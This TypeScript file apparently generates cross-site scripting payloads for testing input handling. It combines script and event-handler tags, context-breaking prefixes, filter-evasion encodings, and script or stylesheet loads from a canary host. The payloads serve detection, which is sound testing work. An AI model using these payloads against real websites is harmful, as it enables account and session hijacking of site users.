/** `xss()` counts its calls. The canary is a host that no other code contacts. */
const ACTIONS = ['xss()', 'parent.xss()', 'fetch`//canary.invalid`'];
const TAGS = [
  (act: string) => `<script>${act}</script>`,
  (act: string) => `<img src=x onerror=${act}>`,
  (act: string) => `<svg onload=${act}>`,
  (act: string) => `<details open ontoggle=${act}>`,
  (act: string) => `<body onload=${act}>`,
  (act: string) => `<input autofocus onfocus=${act}>`,
  (act: string) => `<iframe src=javascript:${act}>`,
  (act: string) => `<a href=javascript:${act}>a</a>`,
  (act: string) => `<object data=javascript:${act}>`,
  (act: string) => `<video><source onerror=${act}>`,
  () => '<img src=//canary.invalid/i>',
  () => '<link rel=stylesheet href=//canary.invalid>',
  () => '<script src=//canary.invalid></script>',
  () => '<style>@import"//canary.invalid"</style>',
  () => '<base href=//canary.invalid>',
  () => '<meta http-equiv=refresh content=0;//canary.invalid>',
];
/** Prefixes that break out of the context into which the text may be inserted. */
const CONTEXTS = ['', '">', "'>", '</title>', '</script>', '-->', ']]>', '</p>', '${', '{{'];
const ENCODINGS = [
  (text: string) => text,
  (text: string) => text.replace(/[a-z]+/, (name) => name.toUpperCase()),
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll('<', '\\u003c'),
  (text: string) => text.replaceAll('<', '%3C'),
  (text: string) => text.replace('javascript:', 'java\tscript:').replace('<', '<\t'),
];

/**
 * Returns up to `count` payloads, sampled evenly from all combinations of at most 60 characters, the lowest limit among
 * the longer fields.
 */
export function scriptPayloads(count: number): string[] {
  const all = ENCODINGS.flatMap((encode) =>
    CONTEXTS.flatMap((context) => ACTIONS.flatMap((act) => TAGS.map((tag) => context + encode(tag(act))))),
  );
  const fitting = [...new Set(all)].filter((payload) => payload.length <= 60);
  const step = Math.max(1, Math.floor(fitting.length / count));
  return fitting.filter((_, index) => index % step === 0).slice(0, count);
}

/**
 * Packs payloads into strings of at most the given length, as many per string as fit. Omits payloads that are longer.
 */
export function packed(payloads: readonly string[], length: number): string[] {
  const texts: string[] = [''];
  for (const payload of payloads.filter((one) => one.length <= length)) {
    const last = texts.at(-1) ?? '';
    if (last.length + payload.length <= length) texts[texts.length - 1] = last + payload;
    else texts.push(payload);
  }
  return texts;
}
